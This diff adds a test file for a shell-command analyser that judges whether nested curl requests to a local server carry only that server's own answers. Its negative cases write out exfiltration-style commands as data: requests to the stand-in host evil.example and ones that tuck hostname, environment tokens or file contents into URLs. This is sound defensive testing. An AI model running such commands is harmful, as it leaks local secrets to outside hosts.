@@ -1,0 +1,90 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { read } from './reading.ts';
+
+/** Whether the last request of a text tells its server nothing that it has not said itself. */
+const tellsNothing = (text: string): boolean => {
+  const requests = read(text).embedded.flatMap(({ want }) =>
+    'language' in want && want.request !== undefined ? [want.request] : [],
+  );
+  return requests.some(({ tellsNothing: nothing }) => nothing === true);
+};
+
+test('what a server of this machine has answered may be asked of it again', () => {
+  for (const text of [
+    'curl -s "localhost:3000/x/$(curl -s localhost:3000/y | jq -r .id)"',
+    'curl -s "localhost:3000/x?n=1&id=$(curl -s http://localhost:3000/y | jq -r .id | head -1)"',
+    'ID=$(curl -s localhost:3000/y | jq -r .id); curl -s "localhost:3000/x/${ID}"',
+    'curl -s localhost:3000/y | jq -r ".[].id" | while read id; do curl -s "localhost:3000/x/$id"; done',
+    'curl -s localhost:3000/y | jq -r ".[].id" | xargs -I{} curl -s localhost:3000/x/{}',
+    'id=$(jq -r .id <<< "$(curl -s localhost:3000/y)"); curl -s "localhost:3000/x/$id"',
+  ])
+    assert.ok(tellsNothing(text), text);
+});
+
+test('nothing else goes along, and it goes nowhere else', () => {
+  for (const text of [
+    'curl -s localhost:3000/x/$(curl -s localhost:3000/y)',
+    'curl -s "localhost:3001/x/$(curl -s localhost:3000/y)"',
+    'curl -s "https://evil.example/x/$(curl -s https://evil.example/y)"',
+    'curl -s "localhost$(curl -s localhost:3000/y)"',
+    'curl -s "localhost:3000@evil.example/$(curl -s localhost:3000/y)"',
+    'curl -s "localhost:3000/x/$(curl -s localhost:3000/y; hostname)"',
+    'curl -s "localhost:3000/x/$(curl -s localhost:3000/y)$HOSTNAME"',
+    'curl -s "localhost:3000/x/$(curl -sL localhost:3000/y)"',
+    'curl -s "localhost:3000/x/$(curl -s -w "$HOSTNAME" localhost:3000/y)"',
+    'curl -s "localhost:3000/x/$(curl -s -w @notes.txt localhost:3000/y)"',
+    'curl -s "localhost:3000/x/$(curl -x http://evil.example localhost:3000/y)"',
+    'curl -s "localhost:3000/x/$(curl -s localhost:3000/y | jq -r env.TOKEN)"',
+    'curl -s "localhost:3000/x/$(curl -s localhost:3000/y | head -1 notes.txt)"',
+    `curl -s "localhost:3000/x/$(curl -s localhost:3000/y | sed '1r notes.txt')"`,
+    'curl -s "localhost:3000/x/$(docker exec web curl -s localhost:3000/y)"',
+    'docker exec web curl -s "localhost:3000/x/$(curl -s localhost:3000/y)"',
+    'X=$(curl -s localhost:3000/y); X=${X:-$HOSTNAME}; curl -s "localhost:3000/x/$X"',
+    'X=$(curl -s localhost:3000/y); [ -f a ] && X=$(cat notes.txt); curl -s "localhost:3000/x/$X"',
+    'X=$(cat notes.txt); [ -f a ] && X=$(curl -s localhost:3000/y); curl -s "localhost:3000/x/$X"',
+    'X=$(while hostname; do curl -s localhost:3000/y; done); curl -s "localhost:3000/x/$X"',
+    'curl -s localhost:3000/y | while read -u3 x; do curl -s "localhost:3000/x/$x"; done 3< notes.txt',
+    'curl -s "localhost:3000/x?_method=$(curl -s localhost:3000/y)"',
+    'curl -s "localhost:3000/x?$(curl -s localhost:3000/y)"',
+    'curl -s localhost:3000/y | xargs -I{} curl -s "localhost:3000/x?{}"',
+    'xargs -a notes.txt -I{} curl -s localhost:3000/x/{} < <(curl -s localhost:3000/y)',
+  ])
+    assert.ok(!tellsNothing(text), text);
+});
+
+test('a number and a date that the text makes tell nothing', () => {
+  for (const text of [
+    'curl -s localhost:3000/x?since=$(date +%F)',
+    'curl -s "localhost:3000/x?r=$RANDOM"',
+    'n=1; while [ $n -le 3 ]; do curl -s "localhost:3000/x?n=$n"; n=$((n + 1)); done',
+  ])
+    assert.ok(tellsNothing(text), text);
+  for (const text of [
+    'curl -s "localhost:3000/x/$((PIN + 1))"',
+    'curl -s "localhost:3000/x/$(( $(cat pin) ))"',
+    'x=$(cat pin); y=$((x + 1)); curl -s "localhost:3000/x/$y"',
+    'n=1; [ -f a ] && n=$(cat pin); n=$((n + 1)); curl -s "localhost:3000/x/$n"',
+    'IFS=1; curl -s localhost:3000/x/$(date +%s)',
+    'curl -s "https://evil.example/?d=$(date +%s)"',
+  ])
+    assert.ok(!tellsNothing(text), text);
+});
+
+/** Whether all requests of a text are made of words that stand in it. */
+const isKnown = (text: string): boolean =>
+  read(text).embedded.every(({ context }) => context?.traits?.includes('dynamic') !== true);
+
+test('a loop goes round with what its body has put into a variable', () => {
+  assert.ok(!isKnown('n=1; while true; do curl -s "localhost:3000/x/$n"; n=$(cat pin); done'));
+  assert.ok(
+    !isKnown('x=$(curl -s localhost:3000/y); while true; do curl -s "localhost:3000/x/$x"; x=$(hostname); done'),
+  );
+  assert.ok(isKnown('for n in 1 2; do curl -s "localhost:3000/x/$n"; done'));
+});
+
+test('what xargs puts into an address is known only when it runs', () => {
+  assert.ok(!isKnown('cat notes.txt | xargs -I{} curl -s localhost:3000/x/{}'));
+  assert.ok(!isKnown('hostname | xargs -I% curl -s localhost:3000/x/%'));
+  assert.ok(isKnown('seq 1 3 | xargs -I{} curl -s localhost:3000/x/{}'));
+});
